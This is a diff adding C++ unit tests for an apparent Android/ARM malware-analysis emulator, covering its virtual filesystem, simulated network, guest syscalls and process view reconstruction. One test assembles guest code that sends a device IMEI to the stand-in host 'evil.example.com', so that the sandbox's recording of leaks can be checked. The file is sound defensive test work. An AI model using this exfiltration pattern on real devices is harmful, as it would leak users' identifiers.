@@ -1,0 +1,238 @@
+#include <gtest/gtest.h>
+
+#include "arm/assembler.h"
+#include "os/kernel.h"
+#include "os/view_reconstructor.h"
+
+namespace ndroid::os {
+namespace {
+
+class OsFixture : public ::testing::Test {
+ protected:
+  static constexpr GuestAddr kCode = 0x10000;
+  static constexpr GuestAddr kData = 0x20000;
+
+  OsFixture() : cpu_(mem_, map_), kernel_(mem_, map_) {
+    map_.add("code", kCode, 0x4000, mem::kRX);
+    map_.add("data", kData, 0x4000, mem::kRW);
+    map_.add("[stack]", 0x70000, 0x10000, mem::kRW);
+    cpu_.set_initial_sp(0x80000);
+    kernel_.attach(cpu_);
+  }
+
+  u32 run(arm::Assembler& a, const std::vector<u32>& args = {}) {
+    const auto code = a.finish();
+    mem_.write_bytes(kCode, code);
+    return cpu_.call_function(kCode, args);
+  }
+
+  mem::AddressSpace mem_;
+  mem::MemoryMap map_;
+  arm::Cpu cpu_;
+  Kernel kernel_;
+};
+
+TEST(Vfs, CreateWriteRead) {
+  Vfs vfs;
+  EXPECT_FALSE(vfs.exists("/sdcard/x"));
+  const u8 data[] = {'h', 'i'};
+  vfs.write_at("/sdcard/x", 0, data);
+  EXPECT_TRUE(vfs.exists("/sdcard/x"));
+  EXPECT_EQ(vfs.content_str("/sdcard/x"), "hi");
+  u8 buf[2];
+  EXPECT_EQ(vfs.read_at("/sdcard/x", 0, buf), 2u);
+  EXPECT_EQ(vfs.read_at("/sdcard/x", 2, buf), 0u);
+}
+
+TEST(Vfs, SparseWriteZeroFills) {
+  Vfs vfs;
+  const u8 data[] = {'z'};
+  vfs.write_at("/f", 4, data);
+  EXPECT_EQ(vfs.size("/f"), 5u);
+  EXPECT_EQ(vfs.content("/f")[0], 0);
+  EXPECT_EQ(vfs.content("/f")[4], 'z');
+}
+
+TEST(Network, ConnectAndSendRecordsPackets) {
+  Network net;
+  const int s = net.create_socket();
+  net.connect(s, "info.3g.qq.com", 80);
+  const u8 payload[] = {'G', 'E', 'T'};
+  net.send(s, payload);
+  ASSERT_EQ(net.packets().size(), 1u);
+  EXPECT_EQ(net.packets()[0].dest_host, "info.3g.qq.com");
+  EXPECT_EQ(net.packets()[0].payload_str(), "GET");
+  EXPECT_EQ(net.bytes_sent_to("info.3g.qq.com"), "GET");
+  EXPECT_EQ(net.bytes_sent_to("other.host"), "");
+}
+
+TEST(Network, SendOnUnconnectedThrows) {
+  Network net;
+  const int s = net.create_socket();
+  const u8 b[] = {1};
+  EXPECT_THROW(net.send(s, b), GuestFault);
+}
+
+TEST(Network, RecvQueue) {
+  Network net;
+  const int s = net.create_socket();
+  net.queue_recv(s, {'a', 'b', 'c'});
+  u8 buf[2];
+  EXPECT_EQ(net.recv(s, buf), 2u);
+  EXPECT_EQ(buf[0], 'a');
+  EXPECT_EQ(net.recv(s, buf), 1u);
+  EXPECT_EQ(buf[0], 'c');
+  EXPECT_EQ(net.recv(s, buf), 0u);
+}
+
+TEST_F(OsFixture, HostFdRoundTrip) {
+  const int fd = kernel_.open_file("/sdcard/notes.txt", kOpenWrite);
+  const u8 data[] = {'l', 'e', 'a', 'k'};
+  EXPECT_EQ(kernel_.write_fd(fd, data), 4u);
+  kernel_.close_fd(fd);
+
+  const int rfd = kernel_.open_file("/sdcard/notes.txt", kOpenRead);
+  u8 buf[4];
+  EXPECT_EQ(kernel_.read_fd(rfd, buf), 4u);
+  EXPECT_EQ(std::string(reinterpret_cast<char*>(buf), 4), "leak");
+}
+
+TEST_F(OsFixture, OpenMissingFileForReadFails) {
+  EXPECT_EQ(kernel_.open_file("/nope", kOpenRead), -1);
+}
+
+TEST_F(OsFixture, GuestSyscallWriteFile) {
+  // Guest: fd = open("/sdcard/f", WR); write(fd, buf, 5); close(fd); exit(0)
+  mem_.write_cstr(kData, "/sdcard/f");
+  mem_.write_cstr(kData + 0x100, "hello");
+  arm::Assembler a(kCode);
+  using arm::R;
+  a.mov_imm32(R(0), kData);
+  a.mov_imm(R(1), kOpenWrite);
+  a.mov_imm32(R(7), static_cast<u32>(Sys::kOpen));
+  a.svc(0);
+  a.mov(R(4), R(0));  // fd
+  a.mov_imm32(R(1), kData + 0x100);
+  a.mov_imm(R(2), 5);
+  a.mov_imm32(R(7), static_cast<u32>(Sys::kWrite));
+  a.svc(0);
+  a.mov(R(0), R(4));
+  a.mov_imm32(R(7), static_cast<u32>(Sys::kClose));
+  a.svc(0);
+  a.ret();
+  run(a);
+  EXPECT_EQ(kernel_.vfs().content_str("/sdcard/f"), "hello");
+}
+
+TEST_F(OsFixture, GuestSyscallSocketSend) {
+  mem_.write_cstr(kData, "evil.example.com");
+  mem_.write_cstr(kData + 0x100, "imei=35391805");
+  arm::Assembler a(kCode);
+  using arm::R;
+  a.mov_imm32(R(7), static_cast<u32>(Sys::kSocket));
+  a.svc(0);
+  a.mov(R(4), R(0));
+  a.mov_imm32(R(1), kData);
+  a.mov_imm(R(2), 80);
+  a.mov_imm32(R(7), static_cast<u32>(Sys::kConnect));
+  a.svc(0);
+  a.mov(R(0), R(4));
+  a.mov_imm32(R(1), kData + 0x100);
+  a.mov_imm(R(2), 13);
+  a.mov_imm32(R(7), static_cast<u32>(Sys::kSend));
+  a.svc(0);
+  a.ret();
+  run(a);
+  EXPECT_EQ(kernel_.network().bytes_sent_to("evil.example.com"),
+            "imei=35391805");
+}
+
+TEST_F(OsFixture, SyscallObserverSeesEvents) {
+  std::vector<Sys> seen;
+  kernel_.set_syscall_observer(
+      [&](const SyscallEvent& ev) { seen.push_back(ev.number); });
+  arm::Assembler a(kCode);
+  using arm::R;
+  a.mov_imm32(R(7), static_cast<u32>(Sys::kGetpid));
+  a.svc(0);
+  a.ret();
+  run(a);
+  ASSERT_EQ(seen.size(), 1u);
+  EXPECT_EQ(seen[0], Sys::kGetpid);
+}
+
+TEST_F(OsFixture, ExitStopsGuest) {
+  arm::Assembler a(kCode);
+  using arm::R;
+  a.mov_imm(R(0), 7);
+  a.mov_imm32(R(7), static_cast<u32>(Sys::kExit));
+  a.svc(0);
+  a.mov_imm(R(0), 99);  // must not execute
+  a.ret();
+  EXPECT_EQ(run(a), 7u);
+  EXPECT_TRUE(kernel_.exited());
+  EXPECT_EQ(kernel_.exit_code(), 7u);
+}
+
+TEST_F(OsFixture, MmapCarvesDistinctRanges) {
+  const GuestAddr a1 = kernel_.mmap_anonymous(0x1000);
+  const GuestAddr a2 = kernel_.mmap_anonymous(0x800);
+  EXPECT_NE(a1, a2);
+  EXPECT_GE(a2, a1 + 0x1000);
+}
+
+TEST_F(OsFixture, ViewReconstructorParsesGuestStructs) {
+  const u32 pid = kernel_.create_process("com.tencent.qq");
+  kernel_.map_region(pid, {"libdvm.so", 0x40000000, 0x40010000, mem::kRX});
+  kernel_.map_region(pid, {"libtccsync.so", 0x50000000, 0x50004000, mem::kRX});
+  const u32 pid2 = kernel_.create_process("system_server");
+  kernel_.map_region(pid2, {"libandroid.so", 0x60000000, 0x60001000, mem::kRX});
+
+  // The reconstructor sees ONLY guest memory.
+  ViewReconstructor recon(mem_, Kernel::kTaskRoot);
+  const auto views = recon.reconstruct();
+  ASSERT_EQ(views.size(), 2u);
+
+  const ProcessView* qq = recon.find_process(views, "com.tencent.qq");
+  ASSERT_NE(qq, nullptr);
+  EXPECT_EQ(qq->pid, pid);
+  ASSERT_EQ(qq->regions.size(), 2u);
+  EXPECT_EQ(qq->regions[0].name, "libdvm.so");
+  EXPECT_EQ(qq->module_of(0x50000123), "libtccsync.so");
+  EXPECT_EQ(qq->module_of(0x12345), "<unmapped>");
+  const RegionView* dvm = qq->find_module("libdvm.so");
+  ASSERT_NE(dvm, nullptr);
+  EXPECT_EQ(dvm->start, 0x40000000u);
+  EXPECT_EQ(dvm->end, 0x40010000u);
+
+  const ProcessView* sys = recon.find_process(views, "system_server");
+  ASSERT_NE(sys, nullptr);
+  EXPECT_EQ(sys->pid, pid2);
+}
+
+TEST_F(OsFixture, ViewReconstructorTracksUpdates) {
+  const u32 pid = kernel_.create_process("app");
+  ViewReconstructor recon(mem_, Kernel::kTaskRoot);
+  EXPECT_EQ(recon.reconstruct()[0].regions.size(), 0u);
+  kernel_.map_region(pid, {"libfoo.so", 0x50000000, 0x50001000, mem::kRX});
+  EXPECT_EQ(recon.reconstruct()[0].regions.size(), 1u);
+}
+
+TEST_F(OsFixture, ViewReconstructorCycleGuard) {
+  kernel_.create_process("app");
+  // Corrupt the guest task list into a self-loop.
+  const GuestAddr first = mem_.read32(Kernel::kTaskRoot);
+  mem_.write32(first + 0x00, first);
+  ViewReconstructor recon(mem_, Kernel::kTaskRoot);
+  EXPECT_THROW((void)recon.reconstruct(), GuestFault);
+}
+
+TEST_F(OsFixture, TruncatedCommIsBounded) {
+  kernel_.create_process("a.very.long.package.name.exceeding.comm");
+  ViewReconstructor recon(mem_, Kernel::kTaskRoot);
+  const auto views = recon.reconstruct();
+  EXPECT_LE(views[0].name.size(), 15u);
+}
+
+}  // namespace
+}  // namespace ndroid::os
